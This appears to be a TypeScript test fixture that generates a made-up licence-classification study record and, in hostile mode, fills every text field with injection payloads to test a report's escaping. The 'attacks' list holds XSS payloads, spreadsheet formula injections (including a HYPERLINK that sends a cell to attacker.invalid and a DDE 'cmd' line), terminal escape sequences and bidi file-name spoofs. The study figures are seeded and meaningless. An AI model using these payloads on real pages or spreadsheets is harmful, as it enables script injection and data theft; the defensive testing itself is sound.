// A made-up but plausible study for the report's tests: eight subjects, 150 samples, two tasks, some unscored.
// The figures are drawn from a seed and mean nothing; `hostile` replaces every text by an attack.

import { addCost, type Call, type Cost, noCost } from "../../src/core/call.js";
import { type Metric, share } from "../../src/core/metric.js";
import type { Outcome } from "../../src/core/outcome.js";
import { type Random, randomFor } from "../../src/core/random.js";
import type { Comparison, Estimate, Result, StudyRecord, SubjectCard } from "../../src/core/record.js";
import type { Source } from "../../src/report/gather.js";

export const attacks = [
  "</script><script>alert(1)</script>",
  "<img src=x onerror=alert(2)>",
  '"><svg onload=alert(3)>',
  '=HYPERLINK("https://attacker.invalid/?x="&A1,"click")',
  "\u001b[31mred\u001b]8;;https://attacker.invalid\u0007link\u001b]8;;\u0007\u009b2J",
  "a | b | `code` ``` # heading\n# heading\n| --- |",
  "\u202egnp.exe\u2066 \u200b",
  "[click](javascript:alert(4)) ![x](https://attacker.invalid/x.png) <https://attacker.invalid>",
  "__proto__",
  "constructor",
  "</style><style>*{background:url(https://attacker.invalid/)}</style>",
  "<!--<script>",
  "' onmouseover='alert(5)",
  "{{7*7}} %s $& $1 \\u003cscript\\u003e",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031ea\u0308lgo",
  "\ud800 lone \u2028 line \u0000 nul",
  "```\n</textarea><iframe src=https://attacker.invalid></iframe>\n````",
  "-1+cmd|' /C calc'!A0",
  "@everyone https://attacker.invalid www.attacker.invalid",
];

export interface Fixture extends Source {
  record: StudyRecord;
  all: Outcome[];
}

const labels = [
  ["permissive", "Permissive"],
  ["copyleft", "Copyleft"],
  ["copyleft-limited", "Copyleft Limited"],
  ["proprietary", "Proprietary Free"],
  ["public-domain", "Public Domain"],
  ["commercial", "Commercial"],
] as const;

const cast: { name: string; role: SubjectCard["role"]; skill: number; tokens: number; ms: number }[] = [
  { name: "zeroShot", role: "generalist", skill: 0.46, tokens: 412, ms: 310 },
  { name: "fewShot(k=6, balanced)", role: "specialist", skill: 0.57, tokens: 2730, ms: 905 },
  { name: "knn(k=4, minilm)", role: "specialist", skill: 0.72, tokens: 1985, ms: 780 },
  { name: "knn(k=4, bm25)", role: "specialist", skill: 0.7, tokens: 2011, ms: 764 },
  { name: "calibrate", role: "specialist", skill: 0.54, tokens: 431, ms: 322 },
  { name: "knn(k=4, minilm) + calibrate", role: "specialist", skill: 0.74, tokens: 2001, ms: 799 },
  { name: "linear(minilm)", role: "reference", skill: 0.68, tokens: 0, ms: 9 },
  { name: "majority", role: "reference", skill: 0.34, tokens: 0, ms: 0.01 },
];

const words =
  "the licensee may copy modify merge publish distribute sublicense provided that this notice appears in all copies of the software without warranty of any kind".split(
    " ",
  );

function prose(random: Random, length: number): string {
  const text = Array.from({ length }, () => words[Math.floor(random() * words.length)]).join(" ");
  return `${text.charAt(0).toUpperCase()}${text.slice(1)}.`;
}

/** Wilson's 95 % interval, near enough for a fixture. */
function estimate(scores: readonly number[]): Estimate {
  const n = scores.length;
  const mean = scores.reduce((sum, score) => sum + score, 0) / n;
  const half = (1.96 * Math.sqrt((mean * (1 - mean)) / n + 0.96 / (n * n))) / (1 + 3.84 / n);
  const middle = (mean + 1.92 / n) / (1 + 3.84 / n);
  return { n, mean, low: middle - half, high: middle + half };
}

export function fixture(options: { hostile?: boolean; samples?: number; seed?: number } = {}): Fixture {
  const { hostile = false, samples = 150, seed = 7 } = options;
  let turn = 0;
  const memory = new Map<string, string>();
  // The same text must stay the same attack, and different names must stay different.
  const text = (plain: string): string => {
    if (!hostile) return plain;
    let attack = memory.get(plain);
    if (attack === undefined) {
      attack = `${attacks[turn % attacks.length]}${turn >= attacks.length ? ` ${turn}` : ""}`;
      turn++;
      memory.set(plain, attack);
    }
    return attack;
  };
  const random = randomFor(seed, "fixture");
  const calls = new Map<string, Call>();
  const texts = new Map<
    string,
    { input: string; question?: string; options?: { key: string; text: string }[] }
  >();
  const all: Outcome[] = [];
  const tasks = [
    {
      name: text("licence-category"),
      kind: "choice",
      metric: share("accuracy"),
      details: [share("macroF1"), share("confidence"), share("recall")],
    },
    { name: text("licence-holder"), kind: "answer", metric: share("f1"), details: [] },
  ];
  const keys = labels.map(([key]) => text(key));

  for (const [t, task] of tasks.entries()) {
    for (let i = 0; i < samples; i++) {
      const id = text(`${t === 0 ? "lic" : "hold"}-${String(i).padStart(4, "0")}`);
      const input = hostile ? attacks.join("\n") : prose(random, 90);
      const choice = Math.min(5, Math.floor(6 * random() ** 1.5));
      const gold = t === 0 ? (keys[choice] as string) : text(`Holder ${i % 40}`);
      const key = `${task.name}\n${id}`;
      texts.set(key, { input, ...(t === 1 ? { question: text("Who holds the rights?") } : {}) });
      const ease = random();
      for (const [s, subject] of cast.entries()) {
        if (t === 1 && subject.role === "reference") continue;
        const luck = 0.5 * ease + 0.5 * random();
        const skill = t === 0 ? subject.skill : 0.95 - subject.skill;
        const failed = subject.role !== "reference" && random() < 0.012;
        const right = luck < skill;
        const said = right
          ? gold
          : t === 0
            ? (keys[Math.floor(random() * 6)] as string)
            : text(`Someone ${i % 9}`);
        const score = said === gold ? 1 : t === 1 && random() < 0.4 ? 0.4 : 0;
        const cost: Cost = {
          calls: subject.tokens ? 1 : 0,
          inputTokens: subject.tokens,
          outputTokens: t,
          ms: subject.ms * (0.8 + 0.4 * random()),
          usd: 0,
        };
        const call = `${t}-${s}-${id}`;
        if (subject.tokens > 0 && !failed) {
          const shots = Array.from(
            { length: Math.round(subject.tokens / 450) },
            (_, k) => `Text: ${prose(randomFor(k, "shot"), 60)}\nCategory: ${labels[k % 6]?.[1]}\n\n`,
          );
          const messages = [
            { role: "system", content: text("You sort licence texts.") },
            {
              role: "user",
              content: `${hostile ? attacks.join("\n") : shots.join("")}Text: ${input}\nCategory:`,
            },
          ];
          calls.set(call, {
            key: call,
            model: text("smollm2-135m-instruct"),
            operation: t === 0 ? "score" : "generate",
            request:
              t === 0
                ? { messages, format: "chat", options: keys.map((k) => ` ${k}`) }
                : { messages, format: "chat", maxTokens: 32, temperature: 0, seed: 1 },
            response:
              t === 0
                ? {
                    options: keys.map((k) => ({
                      logprob: k === said ? -0.6 - random() : -2 - 5 * random(),
                      tokens: 2,
                    })),
                  }
                : { text: said, finish: "stop" },
            cost,
          });
        }
        all.push({
          subject: `id-${s}`,
          task: `${task.name}@${t}`,
          split: "test",
          sample: id,
          seed: 1,
          gold,
          ...(i % 5 === 0 ? { eyesOff: true } : {}),
          grade: failed
            ? {
                status: "unscored",
                cause: text(random() < 0.6 ? "timeout" : "unparsed"),
                detail: text("no answer after 4 tries"),
                raw: text("hm"),
              }
            : { status: "scored", score, prediction: said, raw: said },
          cost: subject.tokens > 0 && failed ? { ...cost, outputTokens: 0 } : cost,
          calls: subject.tokens > 0 && !failed ? [call] : [],
        });
      }
    }
  }
  const record = recordOf(all, tasks, samples, text, random);
  return {
    record,
    all,
    outcomes: () => all,
    call: (key) => calls.get(key),
    samples: (task, id) => texts.get(`${task}\n${id}`),
  };
}

function recordOf(
  all: readonly Outcome[],
  tasks: readonly { name: string; kind: string; metric: Metric; details: Metric[] }[],
  samples: number,
  text: (plain: string) => string,
  random: Random,
): StudyRecord {
  const results: Result[] = [];
  const comparisons: Comparison[] = [];
  const scores = new Map<string, Map<string, number>>();
  for (const [t, task] of tasks.entries()) {
    for (const [s, subject] of cast.entries()) {
      const own = all.filter(
        (outcome) => outcome.task === `${task.name}@${t}` && outcome.subject === `id-${s}`,
      );
      if (own.length === 0) continue;
      const causes: Record<string, number> = {};
      const bySample = new Map<string, number>();
      for (const { grade, sample } of own) {
        if (grade.status === "scored") bySample.set(sample, grade.score);
        else
          Object.defineProperty(causes, grade.cause, {
            value: (Object.hasOwn(causes, grade.cause) ? (causes[grade.cause] ?? 0) : 0) + 1,
            enumerable: true,
            configurable: true,
            writable: true,
          });
      }
      scores.set(`${t} ${s}`, bySample);
      const values = [...bySample.values()];
      const unscored = own.length - values.length;
      const total = own.map(({ cost }) => cost).reduce(addCost, noCost);
      const part = (off: boolean): Estimate =>
        estimate(
          own
            .filter((o) => (o.eyesOff === true) === off)
            .flatMap(({ grade }) => (grade.status === "scored" ? [grade.score] : [])),
        );
      const mean = estimate(values);
      results.push({
        ...mean,
        subject: text(subject.name),
        task: task.name,
        metric: task.metric.name,
        unscored,
        causes,
        bounds: [(mean.mean * mean.n) / own.length, (mean.mean * mean.n + unscored) / own.length],
        baseline: t === 0 ? 0.327 : 0,
        chance: t === 0 ? 1 / 6 : null,
        build: {
          ...noCost,
          calls: subject.tokens,
          inputTokens: subject.name.includes("calibrate") ? 9_800 : 0,
          ms: 900,
          seconds: subject.role === "specialist" ? 2.4 : 0.3,
        },
        perAnswer: {
          calls: 1,
          inputTokens: total.inputTokens / own.length,
          outputTokens: total.outputTokens / own.length,
          ms: total.ms / own.length,
          usd: 0,
          msMedian: subject.ms,
        },
        dev: t === 0 ? estimate(Array.from({ length: 60 }, () => (random() < subject.skill ? 1 : 0))) : null,
        eyes: t === 0 ? { on: part(false), off: part(true) } : null,
        details: t === 0 ? { "macro-f1": mean.mean * 0.93 } : {},
      });
    }
    for (let a = 0; a < cast.length; a++) {
      for (const b of [0, 6]) {
        const [x, y] = [scores.get(`${t} ${a}`), scores.get(`${t} ${b}`)];
        if (a === b || (a === 0 && b === 6) || !x || !y) continue;
        const differences = [...x].flatMap(([id, score]) => (y.has(id) ? [score - (y.get(id) ?? 0)] : []));
        const n = differences.length;
        const delta = differences.reduce((sum, d) => sum + d, 0) / n;
        const error = Math.sqrt(differences.reduce((sum, d) => sum + (d - delta) ** 2, 0) / n / n) || 1e-6;
        const p = Math.min(
          1,
          2 * Math.exp(-0.717 * (Math.abs(delta) / error) - 0.416 * (delta / error) ** 2) * 0.5,
        );
        comparisons.push({
          a: text(cast[a]?.name ?? ""),
          b: text(cast[b]?.name ?? ""),
          task: task.name,
          n,
          delta,
          low: delta - 1.96 * error,
          high: delta + 1.96 * error,
          p,
          pAdjusted: Math.min(1, p * 9),
          test: t === 0 ? "mcnemar-exact" : "sign-flip",
          detectable: 2.8 * error,
        });
      }
    }
  }
  return {
    type: "done",
    study: text("Which licence is this?"),
    description: text("Which category a licence has."),
    results,
    comparisons,
    verdict: {
      champion: text("knn(k=4, minilm) + calibrate"),
      text: text(
        "knn(k=4, minilm) + calibrate, chosen on dev, answers 76.0% of 150 sealed test samples correctly (95% interval 68.5 to 82.2), 24.7 points more than the generalist zeroShot (15.9 to 33.4, Holm p < 0.001), at 2.6 times its time per answer. Against linear(minilm), which costs next to nothing, no difference is shown: +5.3 points (−2.9 to +13.6), where 11.8 could have been.",
      ),
      indistinguishable: [text("knn(k=4, minilm)"), text("linear(minilm)")],
    },
    openings: 3,
    openedBefore: { rows: (samples * 4) / 5, of: samples, plans: 2 },
    subjects: cast.map(({ name, role }, s) => ({
      name: text(name),
      role,
      ids: [`id-${s}`],
      seeds: [1],
      chain:
        role === "specialist"
          ? [{ name: text(name.split("(")[0] ?? ""), options: { k: 4, note: text("option") } }]
          : [],
    })),
    tasks: tasks.map((task, t) => ({
      ...task,
      key: `${task.name}@${t}`,
      binary: task.kind === "choice",
      source: text("pip:licensedcode-data==32.1.0"),
      counts: { train: 600, dev: 60, test: samples, eyesOff: samples / 5 },
      labels: t === 0 ? labels.map(([key, label]) => ({ key: text(key), text: text(label) })) : null,
      testFingerprint: "5f1c0e77aa41b2d39c60e8d1",
      leakage: { exact: 0, near: 3, checked: true },
    })),
    handOver: {
      path: text("runs/licences/specialist"),
      subject: "id-5",
      outcomes: "o",
      n: samples,
      agree: samples,
    },
    stopped: null,
    gate: { met: true, text: text("accuracy at least 70.0%") },
    seeds: [1],
    model: text("llama:smollm2-135m-instruct"),
    seconds: 312.4,
    spentUsd: 0,
    hone: "0.1.0",
    machine: text("Intel Xeon, 2 cores, Node 20.20.0"),
    reproduce: text("npx hone run examples/licences.study.yaml --seed 1"),
    at: "2026-11-23T14:05:00.000Z",
  };
}
